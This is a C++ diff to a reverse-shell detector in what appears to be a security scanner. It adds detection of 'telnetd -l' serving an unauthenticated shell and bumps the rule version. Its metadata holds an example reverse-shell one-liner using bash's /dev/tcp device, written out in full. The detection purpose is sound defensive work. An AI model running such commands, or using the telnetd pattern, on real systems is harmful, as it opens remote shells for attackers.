@@ -1,5 +1,6 @@
 // A shell joined to a network connection: through the shell's own TCP device (B01), an interpreter's code (B02, B03),
 // or netcat and its kin (B04).
+#include <algorithm>
 #include <array>
 
 #include "detect/shell/shell_support.hpp"
@@ -30,9 +31,33 @@ const RuleRow& row_of(std::string_view tool) {
   return tool.empty() || tool.starts_with("/dev/") ? k_rows[0] : k_rows[3];
 }
 
+// telnetd -l SHELL: a shell for whoever connects, where a login belongs.
+bool serves_shell(const ShellCommand& command) {
+  static constexpr std::array<std::string_view, 6> k_shells = {"sh", "bash", "ash", "dash", "zsh", "ksh"};
+  if (program(command) != "telnetd") return false;
+  for (std::size_t i = 1; i < command.argv.size(); ++i) {
+    std::string_view word = command.argv[i];
+    if (word == "-l" && i + 1 < command.argv.size())
+      word = command.argv[i + 1];
+    else if (word.starts_with("-l/"))
+      word.remove_prefix(2);
+    else
+      continue;
+    const std::string_view name = word.substr(word.rfind('/') + 1);
+    return std::find(k_shells.begin(), k_shells.end(), name) != k_shells.end();
+  }
+  return false;
+}
+
 class ReverseShell final : public Detector {
  public:
   void shell(const ShellUnit& unit, EvidenceSink& out) const override {
+    for (const ShellCommand& command : unit.facts.commands) {
+      if (!serves_shell(command)) continue;
+      out.add(
+          shell_evidence(k_rows[3], unit, command.line, "telnetd gives a shell to whoever connects", k_rows[3].cls));
+      break;
+    }
     for (const ShellFlow& flow : unit.facts.flows) {
       if (flow.kind != FlowKind::reverse_shell) continue;
       const RuleRow& row = row_of(flow.tool);
@@ -53,7 +78,7 @@ class ReverseShell final : public Detector {
 
 const util::Registered<ReverseShell> registered{{
     .id = "reverse-shell",
-    .version = 1,
+    .version = 2,
     .summary = "shells joined to a network connection by scripts and start commands",
     .example = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
     .rules = k_rows,
